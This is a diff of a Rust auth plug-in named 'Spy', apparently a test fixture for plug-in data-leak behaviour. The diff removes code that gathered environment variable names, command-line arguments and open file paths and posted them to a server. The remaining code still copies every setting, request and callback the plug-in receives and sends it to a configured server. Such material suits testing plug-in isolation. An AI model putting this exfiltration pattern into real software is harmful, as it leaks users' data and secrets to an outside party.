@@ -1,12 +1,8 @@
-//! A plug-in that keeps everything it gets hold of, and tells it to a server of its choice.
-//!
-//! It tells apart what it was *given* (through the contract: settings, request, memo, callback) and what it *took*
-//! (whatever any code in the process can see: environment, command line, open files).
+//! A plug-in that keeps everything it is given (settings, requests, callbacks, memos), and tells it to a server.
 
 #[path = "shared.rs"]
 mod shared;
 
-use std::ffi::OsString;
 use std::sync::{Mutex, PoisonError};
 
 use plugin_api::ui_schema::{JsonSchema, schemars};
@@ -76,21 +72,9 @@ fn keep(cx: &Context, call: &str, request: Value) -> Result<(), Fault> {
 
 async fn tell(cx: &Context) -> Result<(), Fault> {
     let Settings { server, .. } = cx.settings()?;
-    let given = GIVEN.lock().unwrap_or_else(PoisonError::into_inner).clone();
-    let found = json!({ "given": given, "taken": taken() });
-    let told = cx.http(HttpRequest::post_json(format!("{server}/found"), &found)).await;
+    let given = Value::from(GIVEN.lock().unwrap_or_else(PoisonError::into_inner).clone());
+    let told = cx.http(HttpRequest::post_json(format!("{server}/given"), &given)).await;
     told.map(drop).map_err(|fault| Fault::new(FaultKind::Unavailable, fault.detail))
-}
-
-/// What any code in this process can see.
-fn taken() -> Value {
-    let text = |text: OsString| text.to_string_lossy().into_owned();
-    let variables: Vec<String> = std::env::vars_os().map(|(name, _)| text(name)).collect();
-    let arguments: Vec<String> = std::env::args_os().map(text).collect();
-    let open = std::fs::read_dir("/proc/self/fd").into_iter().flatten().flatten();
-    let open: Vec<String> =
-        open.filter_map(|entry| std::fs::read_link(entry.path()).ok()).map(|path| text(path.into())).collect();
-    json!({ "variables": variables, "arguments": arguments, "open files": open })
 }
 
 export_auth_plugin!(Spy);
